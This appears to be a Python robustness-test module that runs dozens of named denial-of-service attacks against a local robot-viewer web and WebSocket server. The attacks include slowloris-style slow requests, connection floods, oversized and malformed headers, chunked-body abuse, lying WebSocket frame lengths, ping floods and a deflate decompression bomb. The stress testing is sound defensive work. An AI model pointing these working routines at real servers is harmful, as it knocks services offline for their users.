"""Attacks on the view's server, each a program of sockets: `python -m hostile.network NAME HOST PORT TOKEN SECONDS`.

Those of `STRANGERS` do not know the token. Those of `MEMBERS` do: a page of another computer's, to which the address
was given. `SILENT` ones hold what they have and send next to nothing.
"""

from __future__ import annotations

import os
import random
import resource
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import suppress
from itertools import count

OTHER = "127.0.0.2"
"""Another computer, as far as the server can see."""


class Target:
    """Where the attack goes, from which address, and until when."""

    def __init__(self, host: str, port: int, token: str, seconds: float, source: str = "") -> None:
        self.host, self.port, self.token, self.source = host, port, token, source
        self.end = time.monotonic() + seconds
        self.held: list[socket.socket] = []

    def on(self) -> bool:
        return time.monotonic() < self.end

    def open(self, source: str = "", receive: int = 0) -> socket.socket:
        """A connection, from `source` where it is given, with a window of `receive` bytes."""
        made = socket.socket()
        made.settimeout(5.0)
        if receive:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        if source or self.source:
            made.bind((source or self.source, 0))
        made.connect((self.host, self.port))
        return made

    def head(self, path: str = "", method: str = "GET", host: str = "127.0.0.1", **headers: str) -> bytes:
        """The head of a request, for a path below the token where it does not begin with a slash."""
        full = path if path.startswith("/") else f"/{self.token}/{path}"
        given = [f"{name.replace('_', '-')}: {each}" for name, each in headers.items()]
        return "\r\n".join([f"{method} {full} HTTP/1.1", f"Host: {host}", *given, "", ""]).encode()

    def upgrade(self, receive: int = 0, **headers: str) -> socket.socket:
        """A page's socket, its handshake done."""
        made = self.open(receive=receive)
        made.sendall(self.head("socket", **HANDSHAKE, **headers))
        made.recv(1)
        return made

    def crowd(self, number: int, begin: Callable[[], socket.socket]) -> list[socket.socket]:
        """As many as can be had."""
        for _ in range(number):
            with suppress(OSError):
                self.held.append(begin())
            if not self.on():
                break
        return self.held

    def each(self, number: int, begin: Callable[[], socket.socket], data: Callable[[int], bytes], pause: float) -> None:
        """Send every one of a crowd a piece again and again; what was closed is opened anew."""
        self.crowd(number, begin)
        for k in count():
            for j, one in enumerate(self.held):
                try:
                    one.send(data(k), socket.MSG_DONTWAIT)
                except BlockingIOError:
                    continue
                except OSError:
                    with suppress(OSError):
                        one.close()
                        self.held[j] = begin()
                if not self.on():
                    return
            time.sleep(pause)

    def again(self, once: Callable[[], object]) -> None:
        """The same over and over, as fast as it goes."""
        while self.on():
            with suppress(OSError):
                once()

    def rest(self) -> None:
        """Hold what is open, and say nothing."""
        time.sleep(max(0.0, self.end - time.monotonic()))


def frame(opcode: int, data: bytes, *, final: bool = True, length: int | None = None, reserved: int = 0) -> bytes:
    """A masked WebSocket frame, which may lie about its length. A mask of zeros changes nothing."""
    said = len(data) if length is None else length
    if said < 126:
        size = bytes([0x80 | said])
    elif said < 65536:
        size = struct.pack("!BH", 0x80 | 126, said)
    else:
        size = struct.pack("!BQ", 0x80 | 127, said)
    return bytes([(0x80 if final else 0) | reserved | opcode]) + size + bytes(4) + data


HANDSHAKE = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
    "Sec_WebSocket_Version": "13",
}

POSE = b'{"type":"pose","name":"zero","ease":false,"number":7}'

TEXT, BINARY, CLOSE, PING, PONG = 1, 2, 8, 9, 10


# nobody knows the token -------------------------------------------------------------------------------


def idle(target: Target) -> None:
    target.crowd(1010, target.open)
    target.rest()


def idle_again(target: Target) -> None:
    """Opened anew once closed."""
    target.each(1010, target.open, lambda k: b"", 0.05)


def of_many_peers(target: Target) -> None:
    for k in range(1000):
        with suppress(OSError):
            target.held.append(target.open(source=f"127.0.{1 + k % 4}.{2 + k // 4}"))
    target.rest()


def come_and_go(target: Target) -> None:
    target.again(lambda: target.open().close())


def come_and_reset(target: Target) -> None:
    def once() -> None:
        made = target.open()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        made.close()

    target.again(once)


def half_open(target: Target) -> None:
    def begin() -> socket.socket:
        made = target.open()
        made.shutdown(socket.SHUT_WR)
        return made

    target.crowd(500, begin)
    target.rest()


def half_a_head(target: Target) -> None:
    def begin() -> socket.socket:
        made = target.open()
        made.sendall(b"GET / HT")
        made.shutdown(socket.SHUT_WR)
        return made

    target.crowd(500, begin)
    target.rest()


def slow_head(target: Target) -> None:
    head = target.head("/stranger/", Cookie="a" * 9999)
    target.each(300, target.open, lambda k: head[k : k + 1], 0.5)


def slow_headers(target: Target) -> None:
    target.each(300, target.open, lambda k: b"GET / HTTP/1.1\r\n" if k == 0 else b"X: y\r\n", 0.3)


def blank_lines(target: Target) -> None:
    target.each(50, target.open, lambda k: b"\n", 0.0)


def dripped_head(target: Target) -> None:
    """A byte at a time as fast as it goes: each is looked at together with all that came before."""
    target.each(20, target.open, lambda k: b"a", 0.0)


def huge_head(target: Target) -> None:
    target.again(lambda: target.open().sendall(b"GET / HTTP/1.1\r\nX: " + b"a" * 2_000_000))


def huge_address(target: Target) -> None:
    target.again(lambda: target.open().sendall(target.head("/" + "a" * 60_000)))


def huge_cookie(target: Target) -> None:
    target.again(lambda: asked(target, target.head("/stranger/", Cookie="a=" + "b" * 60_000)))


def many_headers(target: Target) -> None:
    lines = {f"X{k}": "y" for k in range(5000)}
    target.again(lambda: asked(target, target.head("/stranger/", **lines)))


def one_header_repeated(target: Target) -> None:
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"a:b\r\n" * 10_000 + b"\r\n"
    target.again(lambda: asked(target, head))


def folded_header(target: Target) -> None:
    target.again(lambda: asked(target, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: y\r\n" + b" z\r\n" * 15_000 + b"\r\n"))


def slow_body(target: Target) -> None:
    head = target.head("/stranger/", "POST", Content_Length="60000")
    target.each(300, target.open, lambda k: head if k == 0 else b"a", 0.5)


def slow_chunks(target: Target) -> None:
    head = target.head("/stranger/", "POST", Transfer_Encoding="chunked")
    target.each(300, target.open, lambda k: head if k == 0 else b"1\r\na\r\n", 0.5)


def many_chunks(target: Target) -> None:
    head = target.head("/stranger/", "POST", Transfer_Encoding="chunked")
    target.each(20, target.open, lambda k: head if k == 0 else b"1\r\na\r\n" * 1000, 0.0)


def chunk_without_end(target: Target) -> None:
    head = target.head("/stranger/", "POST", Transfer_Encoding="chunked")
    target.each(50, target.open, lambda k: head if k == 0 else b"0" * 30, 0.05)


def bodies(target: Target) -> None:
    head = target.head("/stranger/", "POST", Content_Length="65536")
    target.again(lambda: asked(target, head + b"a" * 65536))


def form_of_many_parts(target: Target) -> None:
    body = b"--x\r\nContent-Disposition: form-data; name\r\n\r\n\r\n" * 1300 + b"--x--"
    head = target.head(
        "/stranger/", "POST", Content_Type="multipart/form-data; boundary=x", Content_Length=str(len(body))
    )
    target.again(lambda: asked(target, head + body))


def promised_body(target: Target) -> None:
    target.crowd(500, target.open)
    for one in target.held:
        with suppress(OSError):
            one.sendall(target.head("/stranger/", "POST", Expect="100-continue", Content_Length="10"))
    target.rest()


def odd_lengths(target: Target) -> None:
    lengths = ("-1", "1e9", "9" * 5000, "1,1", "1, 2", "+5", "0x10", "")
    bodies = [{"Content_Length": each, **also} for each in lengths for also in ({}, {"Transfer_Encoding": "chunked"})]
    target.again(lambda: asked(target, target.head("/stranger/", "POST", **random.choice(bodies)) + b"a"))


def pipelined(target: Target) -> None:
    target.again(lambda: flooded(target.open(), target.head("/stranger/") * 10_000, target))


def never_reads_refusals(target: Target) -> None:
    target.each(30, lambda: target.open(receive=4096), lambda k: target.head("/stranger/") * 100, 0.0)


def wrong_tokens(target: Target) -> None:
    target.again(lambda: asked(target, target.head(f"/{random.getrandbits(120):030x}/")))


def wrong_token_kept_alive(target: Target) -> None:
    target.each(20, target.open, lambda k: target.head(f"/{k:022d}/"), 0.0)


def garbage(target: Target) -> None:
    target.again(lambda: asked(target, random.randbytes(4000) + b"\r\n\r\n"))


def tls(target: Target) -> None:
    target.crowd(500, target.open)
    for one in target.held:
        with suppress(OSError):
            one.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500))
    target.rest()


def http_2(target: Target) -> None:
    target.again(lambda: asked(target, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100)))


def urgent(target: Target) -> None:
    def once() -> None:
        one = target.open()
        one.send(b"!", socket.MSG_OOB)
        one.close()

    target.again(once)


def foreign_host(target: Target) -> None:
    target.again(lambda: asked(target, target.head(host="evil.example")))


def foreign_origin(target: Target) -> None:
    target.again(lambda: asked(target, target.head("socket", Origin="http://evil.example", Upgrade="websocket")))


def upgrades_of_strangers(target: Target) -> None:
    target.again(lambda: asked(target, target.head("/stranger/socket", **HANDSHAKE)))


def frames_before_the_answer(target: Target) -> None:
    head = target.head("/stranger/socket", **HANDSHAKE)
    target.again(lambda: asked(target, head + frame(TEXT, POSE) * 1000))


# somebody knows it ------------------------------------------------------------------------------------


def pages_without_end(target: Target) -> None:
    target.crowd(200, target.upgrade)
    target.rest()


def pages_again(target: Target) -> None:
    target.each(80, target.upgrade, lambda k: frame(PONG, b""), 0.05)


def mute_pages(target: Target) -> None:
    target.crowd(60, lambda: target.upgrade(receive=4096))
    target.each(0, target.upgrade, lambda k: frame(TEXT, POSE), 0.1)


def pages_that_come_and_go(target: Target) -> None:
    target.again(lambda: target.upgrade().close())


def requests(target: Target) -> None:
    """Some ten thousand a second, of one page."""
    target.each(1, target.upgrade, lambda k: frame(TEXT, POSE) * 100, 0.01)


def requests_of_thirty(target: Target) -> None:
    target.each(30, target.upgrade, lambda k: frame(TEXT, POSE) * 20, 0.0)


def nonsense_of_thirty(target: Target) -> None:
    target.each(30, target.upgrade, lambda k: frame(TEXT, b'{"type":' + b"[" * 500) * 20, 0.0)


def large_nonsense(target: Target) -> None:
    text = b'{"type":"theta","theta":[' + b"0," * 32_000 + b"0]}"
    target.each(10, target.upgrade, lambda k: frame(TEXT, text), 0.0)


def jogs(target: Target) -> None:
    text = b'{"type":"jog","frame":"base","twist":[0,0,0,0,0,0.1],"number":7}'
    target.each(10, target.upgrade, lambda k: frame(TEXT, text) * 20, 0.0)


def fragments_without_end(target: Target) -> None:
    more = frame(0, b"a", final=False) * 100
    target.each(10, target.upgrade, lambda k: more if k else frame(TEXT, b"a", final=False), 0.0)


def empty_fragments(target: Target) -> None:
    more = frame(0, b"", final=False) * 1000
    target.each(10, target.upgrade, lambda k: more if k else frame(TEXT, b"", final=False), 0.0)


def frame_of_a_gigabyte(target: Target) -> None:
    def once() -> None:
        one = target.upgrade()
        flooded(one, frame(BINARY, b"a" * 1_000_000, length=10**9), target)
        one.close()

    target.again(once)


def half_a_frame(target: Target) -> None:
    target.crowd(50, target.upgrade)
    for one in target.held:
        with suppress(OSError):
            one.sendall(frame(TEXT, b"a", length=60_000))
    target.rest()


def slow_frame(target: Target) -> None:
    target.each(50, target.upgrade, lambda k: frame(TEXT, b"", length=60_000) if k == 0 else b"a", 0.3)


def pings(target: Target) -> None:
    target.each(10, target.upgrade, lambda k: frame(PING, b"a" * 125) * 300, 0.0)


def pings_never_read(target: Target) -> None:
    target.each(10, lambda: target.upgrade(receive=4096), lambda k: frame(PING, b"a" * 125) * 300, 0.0)


def pongs_never_read(target: Target) -> None:
    """Answers that nobody asked for keep a page alive that takes nothing."""
    target.each(60, lambda: target.upgrade(receive=4096), lambda k: frame(PONG, b""), 0.2)


def bomb(target: Target) -> None:
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(bytes(20_000_000)) + packed.flush(zlib.Z_SYNC_FLUSH)
    offer = {"Sec_WebSocket_Extensions": "permessage-deflate"}
    target.each(5, lambda: target.upgrade(**offer), lambda k: frame(TEXT, data[:-4], reserved=0x40), 0.1)


def closing_frames(target: Target) -> None:
    def once() -> None:
        one = target.upgrade()
        one.sendall(frame(CLOSE, struct.pack("!H", 1000) + b"a" * 100) * 10)
        one.close()

    target.again(once)


def odd_frames(target: Target) -> None:
    odd = [
        frame(3, b"a"),
        frame(TEXT, b"\xff\xfe"),
        frame(PING, b"a", final=False),
        frame(0, b"a"),
        frame(CLOSE, b"a"),
        frame(CLOSE, b"\x03\xe8\xff\xfe"),
        frame(TEXT, b"a", reserved=0x70),
        b"\x81\x01a",
        frame(PING, b"a" * 200),
    ]

    def once() -> None:
        one = target.upgrade()
        one.sendall(random.choice(odd))
        one.close()

    target.again(once)


def downloads_never_read(target: Target) -> None:
    target.crowd(100, lambda: target.open(receive=4096))
    for one in target.held:
        with suppress(OSError):
            one.sendall(target.head("arm.html"))
    target.rest()


def downloads(target: Target) -> None:
    target.each(20, target.open, lambda k: target.head("arm.html"), 0.0)


def slow_readers(target: Target) -> None:
    target.crowd(100, lambda: target.open(receive=4096))
    for one in target.held:
        with suppress(OSError):
            one.sendall(target.head("meshcat.js"))
    while target.on():
        for one in target.held:
            with suppress(OSError):
                one.recv(1)
        time.sleep(0.1)


def pipelined_files(target: Target) -> None:
    target.again(lambda: flooded(target.open(), target.head("nothing.js") * 10_000, target))


def pipelined_never_read(target: Target) -> None:
    target.each(50, lambda: target.open(receive=4096), lambda k: target.head("meshcat.js") * 100, 0.05)


def kept_alive(target: Target) -> None:
    def begin() -> socket.socket:
        one = target.open()
        one.sendall(target.head("nothing.js"))
        one.recv(4096)
        return one

    target.crowd(600, begin)
    target.rest()


def slow_body_with_the_token(target: Target) -> None:
    head = target.head("", Content_Length="60000")
    target.each(200, target.open, lambda k: head if k == 0 else b"a", 0.3)


def asked(target: Target, data: bytes) -> None:
    with target.open() as one:
        one.sendall(data)
        one.recv(4096)


def flooded(one: socket.socket, data: bytes, target: Target) -> None:
    """Sent as far as the other side takes it, its answers read and thrown away."""
    view, one_end = memoryview(data), time.monotonic() + 1.0
    while view and target.on() and time.monotonic() < one_end:
        try:
            view = view[one.send(view[:65536], socket.MSG_DONTWAIT) :]
        except BlockingIOError:
            time.sleep(0.001)
        with suppress(BlockingIOError):
            one.recv(65536, socket.MSG_DONTWAIT)


STRANGERS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        idle, idle_again, of_many_peers, come_and_go, come_and_reset, half_open, half_a_head, slow_head, slow_headers,
        blank_lines, dripped_head, huge_head, huge_address, huge_cookie, many_headers, one_header_repeated,
        folded_header, slow_body, slow_chunks, many_chunks, chunk_without_end, bodies, form_of_many_parts,
        promised_body, odd_lengths, pipelined, never_reads_refusals, wrong_tokens, wrong_token_kept_alive, garbage, tls,
        http_2, urgent, foreign_host, foreign_origin, upgrades_of_strangers, frames_before_the_answer,
    )
}  # fmt: skip

MEMBERS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        pages_without_end, pages_again, mute_pages, pages_that_come_and_go, requests, requests_of_thirty,
        nonsense_of_thirty, large_nonsense, jogs, fragments_without_end, empty_fragments, frame_of_a_gigabyte,
        half_a_frame, slow_frame, pings, pings_never_read, pongs_never_read, bomb, closing_frames, odd_frames,
        downloads_never_read, downloads, slow_readers, pipelined_files, pipelined_never_read, kept_alive,
        slow_body_with_the_token,
    )
}  # fmt: skip

SILENT = {
    "idle", "of_many_peers", "half_open", "half_a_head", "slow_head", "slow_headers", "slow_body", "slow_chunks",
    "promised_body", "tls", "pages_without_end", "mute_pages", "half_a_frame", "slow_frame", "downloads_never_read",
    "slow_readers", "kept_alive", "slow_body_with_the_token",
}  # fmt: skip


def main(name: str, host: str, port: str, token: str, seconds: str) -> None:
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, limit) if limit > 0 else 4096, limit))
    random.seed(name)
    attack = {**STRANGERS, **MEMBERS}[name]
    attack(Target(host, int(port), token, float(seconds), OTHER if name in MEMBERS else ""))
    os._exit(0)


if __name__ == "__main__":
    main(*sys.argv[1:])
